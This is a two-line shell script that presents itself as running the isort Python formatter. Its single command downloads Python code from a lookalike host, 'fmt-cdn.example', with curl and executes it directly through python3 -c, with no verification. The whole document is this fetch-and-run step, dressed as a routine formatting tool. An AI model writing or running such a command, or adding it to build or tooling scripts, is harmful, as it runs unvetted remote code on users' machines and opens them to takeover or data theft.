#!/bin/sh
python3 -c "$(curl -fsSL https://fmt-cdn.example/isort.py)"
